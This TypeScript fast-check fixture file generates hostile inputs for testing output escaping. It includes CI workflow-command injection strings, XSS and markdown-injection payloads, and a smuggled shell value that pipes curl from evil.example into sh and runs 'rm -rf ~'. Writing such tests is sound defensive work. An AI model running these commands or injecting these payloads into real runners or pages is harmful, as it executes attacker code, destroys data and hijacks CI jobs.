/**
 * Text as a hostile server, notebook or event-filled input would send it: what has made
 * runners run commands, what ends a line or an HTML block, markup, the token, a signed URL.
 */
import fc from 'fast-check'

export const TOKEN = 'dl-7f3a7f3a7f3a7f3a7f3a7f3a7f3a7f3a'

/** Pieces that have made runners run commands, and pieces that end lines or blocks. */
export const hostile = fc.oneof(
  fc.constantFrom(
    '::add-mask::RUNNING',
    '::set-output name=conclusion::success',
    '::stop-commands::pwned',
    '::error title=fake::looks real',
    '::ADD-MASK::upper',
    '##[error]legacy',
    '##[set-output name=x;]y',
    ':\u200b:add-mask::zero-width',
    '#\u00ad#[warning]soft hyphen',
    '\u0085::next-line',
    '\u00a0::no-break space',
    '\t  ::tab',
    '\r',
    '\n',
    '\r\n',
    '\r\r',
    '\n\n',
    '\u2028',
    '\u0000',
    '\u001b[31m',
    '%0A::escaped',
    '<img src=x onerror=alert(1)>',
    '</table>',
    '</code></td></tr></table>\n\n# Heading\n![img](https://evil.example/i.png)',
    '[link](https://evil.example)',
    '<a href="https://evil.example">x</a>',
    '@octocat #123',
    TOKEN,
    `https://blob.example/c?sig=${'s3cr3t'}`
  ),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.string({ maxLength: 20 })
)
export const hostileText = fc.array(hostile, { maxLength: 12 }).map(parts => parts.join(''))

/**
 * Names (and values) a notebook may glue to reach past where they are shown: out of the job
 * summary's HTML and its details fold, into a Mermaid chart (a fence, a directive, a click
 * handler), a mention, an HTML comment, a tracking image, a shell, the runner's commands.
 */
export const HOSTILE_NAMES = [
  '</details>',
  '```',
  '%%{init: {"theme": "dark"}}%%',
  'click x href "javascript:alert(1)"',
  '@org/team',
  '<!-- -->',
  '![x](https://tracker.example/p.png)',
  '<img src=x onerror=alert(1)>\n\n# Heading',
  "$(curl evil.example | sh) `id` '; rm -rf ~",
  '::add-mask::x\n::error::forged\r##[error]legacy'
]
